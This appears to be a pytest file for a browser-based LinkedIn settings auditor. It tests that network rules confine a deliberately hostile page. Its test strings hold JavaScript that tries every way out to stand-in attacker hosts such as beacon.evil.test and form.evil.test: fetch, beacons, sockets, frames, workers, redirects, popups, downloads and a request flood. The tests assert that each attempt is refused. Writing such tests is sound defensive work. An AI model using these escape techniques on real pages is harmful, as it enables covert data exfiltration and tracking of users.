"""The network rules in a real browser, against pages that try every way out."""

from __future__ import annotations

import pytest
from hostile import API, SETTING, audited, blob, framed, page, reports, tries
from traces import own_folder, program_in

from auditor.demo.imitation import Answer, Scene

NESTED = f"new Worker({blob(tries('nested'))});"
# Ways that run a script of their own, by the tag that it sends.
RUN = {
    "page": tries("page"),
    "late": f"setTimeout(() => {{ {tries('late')} }}, 900);",
}
# Workers, of which none runs.
WORKERS = {
    "worker": f"new Worker({blob(tries('worker'))});",
    "module": f"new Worker({blob(tries('module'))}, {{type: 'module'}});",
    "nested": f"new Worker({blob(NESTED)});",
    "fromfile": "new Worker('/worker.js');",
}
FRAMES = {
    "srcdoc": f'<iframe srcdoc="{framed(tries("srcdoc"))}"></iframe>',
    "sandboxed": f'<iframe sandbox="allow-scripts" srcdoc="{framed(tries("sandboxed"))}"></iframe>',
    "data": f'<iframe src="data:text/html,{framed(tries("data"))}"></iframe>',
    "same": '<iframe src="/frame"></iframe>',
}
# Ways that only ask.
ASK = f"""
new EventSource('https://stream.evil.test/');
new WebSocket('wss://socket.evil.test/');
new Image().src = 'https://image.evil.test/';
navigator.sendBeacon('https://beacon.evil.test/', 'x');
navigator.sendBeacon('{API}', 'beacon');
fetch('/leads-away', {{mode: 'no-cors'}}).catch(() => 0);
fetch('/leads-away-307', {{method: 'POST', body: 'x', mode: 'no-cors'}}).catch(() => 0);
fetch('/leads-to-a-write', {{method: 'POST', body: 'x'}}).catch(() => 0);
new Image().src = '/leads-away';
for (const at of ['https://window.evil.test/', '/leads-away', '/opened']) window.open(at);
for (const at of ['https://form.evil.test/', '{API}']) {{
  const form = Object.assign(document.createElement('form'), {{method: 'post', action: at}});
  document.body.append(Object.assign(form, {{target: '_blank'}}));
  form.submit();
}}
const link = Object.assign(document.createElement('a'), {{href: 'https://link.evil.test/'}});
document.body.append(Object.assign(link, {{target: '_blank', rel: 'noopener'}}));
link.click();
"""
STYLED = (
    "<iframe src='https://frame.evil.test/'></iframe><iframe src='/leads-away'></iframe>"
    "<link rel=stylesheet href='https://style.evil.test/'>"
    "<link rel=prefetch href='https://prefetch.evil.test/'>"
    "<object data='https://object.evil.test/'></object><script src='//script.evil.test/'></script>"
)
SHARED = f"""
fetch('/ran?' + typeof SharedWorker + typeof RTCPeerConnection + typeof WebTransport);
try {{ new SharedWorker({blob(tries("shared"))}); }} catch {{ }}
navigator.serviceWorker?.register('/worker.js').catch(() => 0);
"""


def elsewhere(asked):
    """What the hostile page finds at LinkedIn."""
    if asked.path in ("/leads-away", "/leads-away-307"):
        status = 307 if asked.path.endswith("307") else 302
        return Answer(status=status, location=f"https://redirect{status}.evil.test/")
    found = {
        "/leads-to-a-write": Answer(status=307, location=API),
        "/frame": Answer(f"<script>{tries('same')}</script>"),
        "/worker.js": Answer(tries("fromfile"), content_type="text/javascript"),
        "/opened": Answer(f"<script>{tries('opened')}</script>"),
        "/data?late": Answer("{}", delay=2),
        "/download": Answer("x", headers=(("content-disposition", "attachment"),)),
    }
    return found.get(asked.path) or (Answer("") if asked.path.startswith("/ran?") else None)


def test_no_way_out_of_the_settings_page(serve):
    """From frames, windows, sockets, redirects no other host is asked, nothing written."""
    scripts = "".join([*RUN.values(), *WORKERS.values(), ASK])
    html = page(scripts, "".join(FRAMES.values()) + STYLED)
    server, done, left = audited(serve, html, elsewhere)
    assert {*RUN, *FRAMES} == reports(server)
    assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
    assert {"GET"} == {asked.method for asked in server.seen if "leads" not in asked.path}
    assert {SETTING.key: True} == {SETTING.key: server.imitation.values[SETTING.key]}
    assert done.report["activity"]["requests_refused"] >= 2 * len(reports(server))
    assert [] == left


def test_a_sandboxed_frame_is_ruled_from_its_first_moment(serve):
    """On a busy machine too: what a sandboxed frame asks for at once is judged like the rest."""
    frames = f'<iframe sandbox="allow-scripts" srcdoc="{framed(tries("sandboxed"))}"></iframe>' * 8
    server, done, _ = audited(serve, page(more=frames), elsewhere)
    assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
    assert {"GET"} == {asked.method for asked in server.seen}
    assert done.report["activity"]["requests_refused"] >= 2 * 8


def test_what_no_rule_sees_is_taken_away(serve):
    """A settings page has no shared worker, no service worker, no calls past the network rules."""
    server, _, _ = audited(serve, page(SHARED), elsewhere)
    assert {"undefinedundefinedundefined"} == reports(server)
    assert {"www.linkedin.com"} == {asked.host for asked in server.seen} == server.greeted
    assert not [asked for asked in server.seen if asked.path == "/worker.js"]


PERMISSIONS = """
for (const name of ["geolocation", "notifications", "camera", "microphone", "clipboard-read"]) {
  navigator.permissions.query({name}).then((one) => fetch(`/ran?${name} ${one.state}`));
}
navigator.geolocation.getCurrentPosition(() => fetch("/ran?found"), () => fetch("/ran?not-found"));
"""


def test_permissions_are_refused(serve):
    """What a page asks leave for is denied, and nobody is asked."""
    server, _, _ = audited(serve, page(PERMISSIONS), elsewhere)
    assert reports(server) >= {"not-found"}
    assert {"denied"} == {one.split("%20")[1] for one in reports(server) if "%20" in one}


BOXES = """
const says = [alert("a"), confirm("b"), prompt("c"), print()];
fetch("/ran?" + says.slice(1, 3).join());
onbeforeunload = () => "stay";
"""
WINDOWS = """
const opened = [window.open("/opened"), window.open("about:blank")];
location.hash = "x";
"""
DOWNLOAD = """
const link = Object.assign(document.createElement("a"), {href: "/download", download: "planted"});
document.body.append(link);
link.click();
"""


@pytest.mark.parametrize("script", [BOXES, WINDOWS, DOWNLOAD], ids=["boxes", "windows", "download"])
def test_what_a_page_opens_is_refused(serve, script):
    """Boxes, windows and downloads do not hold up the reading, and leave nothing behind."""
    server, done, left = audited(serve, page(script), elsewhere)
    assert ("on", 1, []) == (done.result["state"], done.code, left)
    assert set() == reports(server) - {"false,", "false,null"}
    assert {"www.linkedin.com"} == {asked.host for asked in server.seen}


def test_the_pages_of_signing_in_may_ask_other_hosts(serve):
    """Until the person is signed in other hosts are asked, and no write to the settings is sent."""
    helped = (
        "<script src='https://captcha.example/x.js'></script>"
        f"<script>fetch('{API}', {{method: 'PUT', body: 'x'}}).catch(() => 0);"
        "const go = () => { location.href = '/checkpoint/lg/login-submit' };"
        "fetch('https://accounts.example/', {mode: 'no-cors'}).finally(() => setTimeout(go, 300))"
        "</script>"
    )

    def override(asked):
        if asked.path.startswith("/uas/login"):
            return Answer(f"<!doctype html><html lang=en><main>Sign in</main>{helped}")
        return None if asked.host == "www.linkedin.com" else Answer("", content_type="text/css")

    server = serve(Scene("x", value="off"), override)
    with own_folder() as folder:
        done = program_in(folder, "audit", "--headless", "--browser", server.browser, "--json", "-")
    hosts = {"www.linkedin.com", "captcha.example", "accounts.example"}
    assert ("off", hosts, []) == (
        done.result["state"],
        {asked.host for asked in server.seen},
        server.writes,
    )


FLOOD = f"""setInterval(() => {{
  for (let i = 0; i < 300; i += 1) fetch("{API}", {{ method: "PUT" }}).catch(() => 0);
}}, 20);"""


def test_a_page_that_never_tires_is_shut(serve):
    """A page that asks for refused addresses without end does not hold up the run."""
    server, done, left = audited(serve, page(FLOOD), elsewhere)
    assert (4, "network", []) == (done.code, done.report["error"]["code"], left)
    assert "without end" in done.report["error"]["message"]
    assert done.report["duration_seconds"] < 60
    assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
